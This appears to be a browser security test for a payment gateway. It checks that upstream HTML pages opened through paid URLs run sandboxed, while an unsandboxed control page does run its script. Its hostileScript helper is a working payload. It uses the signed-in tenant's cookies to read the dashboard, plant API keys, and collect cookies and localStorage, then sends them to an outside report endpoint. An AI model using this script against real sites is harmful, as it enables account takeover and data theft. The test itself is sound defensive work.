// The payment origin in a real browser: a tenant is signed in to the dashboard (http://localhost:PORT) in Chromium,
// and an upstream answers a paid request with an HTML page whose script tries to read the dashboard and to create an
// API key there with the tenant's cookies. The page is bought through the production bundle (SIGNED_URL and PROXY, on
// the local chain) and opened in that same browser, on the payment origin (http://127.0.0.1:PORT). The script never
// runs: no key is created, nothing is read or sent anywhere. The same page served without the payment origin's
// headers (straight from the upstream) does run its script: the test would see it.
import type { Browser, Page } from "puppeteer-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createX402Buyer } from "../../src/cli/localnet/buyer.ts";
import { createOutboundRouter, GATEWAY_TEST_HOSTS } from "../../src/cli/localnet/outbound.ts";
import { type LocalStack, startStack } from "../../src/cli/localnet/stack.ts";
import { createSignInLink } from "../../src/core/sign-in-links.ts";
import { getDb } from "../../src/db/client.ts";
import { launchBrowser } from "../browser/support/browser.ts";
import { type RunningWorker, startWorker } from "../browser/support/worker.ts";

const PORT = 8898;

let stack: LocalStack;
let worker: RunningWorker;
let browser: Browser;
const prefix = `/${crypto.randomUUID()}`;
const urls: { signed: string; proxy: string } = { signed: "", proxy: "" };

const api = async (path: string, body: unknown) => {
  const res = await fetch(`${worker.url}${path}`, {
    method: "POST",
    headers: { Authorization: `Bearer ${worker.key}`, "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  const json = (await res.json()) as { data: { id: string; paymentUrls: { x402: string } } };
  expect(res.status, JSON.stringify(json)).toBe(201);
  return json.data;
};

beforeAll(async () => {
  [stack, browser] = await Promise.all([startStack({ tempo: false }), launchBrowser()]);
  worker = await startWorker({
    port: PORT,
    vars: {
      FACILITATOR_URL_TESTNET: `https://${GATEWAY_TEST_HOSTS.facilitator}`,
      NETWORK_OVERRIDES: stack.info.networkOverrides,
    },
    outboundService: createOutboundRouter({
      [GATEWAY_TEST_HOSTS.upstream]: stack.info.upstreamUrl,
      [GATEWAY_TEST_HOSTS.facilitator]: stack.info.facilitatorUrl,
      [GATEWAY_TEST_HOSTS.rpc]: stack.info.rpcUrl,
    }),
  });
  const networks = [stack.info.networkId];
  const service = await api("/v1/services", {
    name: "Hostile pages",
    baseUrl: `https://${GATEWAY_TEST_HOSTS.upstream}${prefix}`,
    authMethod: "none",
    authConfig: {},
    networks,
    mode: "testnet",
  });
  const paywall = (slug: string, fulfillmentMode: string) =>
    api("/v1/paywalls", {
      slug,
      name: slug,
      targetType: "ROUTE",
      targetRoute: "/html",
      serviceId: service.id,
      price: "1000",
      currency: "USDC",
      networks,
      fulfillmentMode,
    });
  urls.signed = (await paywall("page-signed", "SIGNED_URL")).paymentUrls.x402;
  urls.proxy = (await paywall("page-proxy", "PROXY")).paymentUrls.x402;
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await worker?.stop();
  await stack?.stop();
});

const x402Buyer = () =>
  createX402Buyer({ privateKey: stack.info.buyer.privateKey, network: stack.info.network, usdc: stack.info.usdc.address });

/**
 * What the upstream's page runs: read the dashboard with the tenant's cookies, create a key there (fetch and a form),
 * read cookies and storage, and report all of it to the upstream (`<prefix>/report`, which the stub records).
 */
const hostileScript = (dashboard: string, tag: string) => `
document.title = "script ran";
(async () => {
  const out = { tag: ${JSON.stringify(tag)}, origin: location.origin };
  try { out.read = (await (await fetch(${JSON.stringify(`${dashboard}/dashboard/keys`)}, { credentials: "include" })).text()).slice(0, 300); } catch (e) { out.readError = String(e); }
  try {
    const body = new URLSearchParams({ name: "planted-" + out.tag, scopes: "services:write" });
    await fetch(${JSON.stringify(`${dashboard}/dashboard/keys`)}, { method: "POST", credentials: "include", mode: "no-cors", body });
    out.posted = true;
  } catch (e) { out.postError = String(e); }
  try { out.cookie = document.cookie; out.storage = JSON.stringify(localStorage); } catch (e) { out.storageError = String(e); }
  try {
    const form = Object.assign(document.createElement("form"), { method: "POST", action: ${JSON.stringify(`${dashboard}/dashboard/keys`)}, target: "planted" });
    form.append(Object.assign(document.createElement("input"), { name: "name", value: "form-" + out.tag }));
    document.body.append(form); form.submit();
  } catch (e) { out.formError = String(e); }
  await fetch(${JSON.stringify(`${stack.info.upstreamUrl}${prefix}/report`)} + "?" + new URLSearchParams({ data: JSON.stringify(out) }), { mode: "no-cors" });
})();`;

const reports = (tag: string) =>
  stack.upstream.requestsUnder(`${prefix}/report`).filter((r) => new URLSearchParams(r.query).get("data")?.includes(tag));

async function keyNames(): Promise<string[]> {
  const db = await worker.db();
  const rows = await db.prepare("SELECT name FROM api_keys WHERE tenant_id = ?").bind(worker.tenantId).all<{ name: string }>();
  return rows.results.map((r) => r.name);
}

/** A page of a browser whose dashboard session is the seeded tenant's. */
async function signedInPage(): Promise<Page> {
  const page = await browser.newPage();
  const link = await createSignInLink(getDb(await worker.db()), { tenant: worker.tenantId, baseUrl: worker.url });
  await page.goto(link.url, { waitUntil: "load" });
  await Promise.all([page.waitForNavigation({ waitUntil: "load" }), page.click("form button[type=submit]")]);
  expect(new URL(page.url()).pathname).toBe("/dashboard/keys");
  // The session works from this browser: the dashboard shows the tenant's keys page.
  expect(await page.content()).toContain("Create key");
  return page;
}

/** Opens the paid page, waits for whatever its script would do, and says what happened. */
async function openPaid(page: Page, url: string, tag: string, headers: Record<string, string> = {}) {
  await page.setExtraHTTPHeaders(headers);
  const response = await page.goto(url, { waitUntil: "load" });
  await page.setExtraHTTPHeaders({});
  await new Promise((r) => setTimeout(r, 1500));
  return {
    status: response?.status(),
    csp: response?.headers()["content-security-policy"],
    title: await page.title(),
    text: (await page.evaluate("document.body ? document.body.innerText : ''")) as string,
    reports: reports(tag),
  };
}

describe("a page an upstream answers through a payment URL", () => {
  it("SIGNED_URL: opened in the tenant's browser, its script runs not at all: nothing read, no key made", async () => {
    const page = await signedInPage();
    const before = await keyNames();
    const paid = await x402Buyer().fetch(urls.signed);
    expect(paid.status).toBe(200);
    const { data } = (await paid.json()) as { data: { url: string } };
    expect(new URL(data.url).origin).toBe(worker.paymentUrl);
    const tag = "signed";
    const seen = await openPaid(page, `${data.url}?js=${encodeURIComponent(hostileScript(worker.url, tag))}`, tag);
    expect(seen.status).toBe(200);
    expect(seen.csp).toMatch(/^sandbox;/);
    expect(seen.text).toContain("paid"); // the upstream's page is shown…
    expect(seen.title).toBe("upstream page"); // …and its script did not run
    expect(seen.reports).toEqual([]);
    expect(await keyNames()).toEqual(before);
    await page.close();
  });

  it("PROXY: the paid answer itself, opened by the browser that pays, runs no script either", async () => {
    const page = await signedInPage();
    const before = await keyNames();
    const tag = "proxy";
    const url = `${urls.proxy}?js=${encodeURIComponent(hostileScript(worker.url, tag))}`;
    const buyer = x402Buyer();
    const challenge = await fetch(url);
    expect(challenge.status).toBe(402);
    const required = buyer.http.getPaymentRequiredResponse((name) => challenge.headers.get(name), await challenge.json());
    const header = buyer.http.encodePaymentSignatureHeader(await buyer.http.createPaymentPayload(required));
    const seen = await openPaid(page, url, tag, header as Record<string, string>);
    expect(seen.status).toBe(200);
    expect(seen.csp).toMatch(/^sandbox;/);
    expect(seen.text).toContain("paid");
    expect(seen.title).toBe("upstream page");
    expect(seen.reports).toEqual([]);
    expect(await keyNames()).toEqual(before);
    await page.close();
  });

  it("control: the same page served without the payment origin's headers does run its script (the test can see it)", async () => {
    const page = await signedInPage();
    const tag = "control";
    const seen = await openPaid(
      page,
      `${stack.info.upstreamUrl}${prefix}/html?js=${encodeURIComponent(hostileScript(worker.url, tag))}`,
      tag,
    );
    expect(seen.title).toBe("script ran");
    expect(seen.reports).toHaveLength(1);
    await page.close();
  });
});
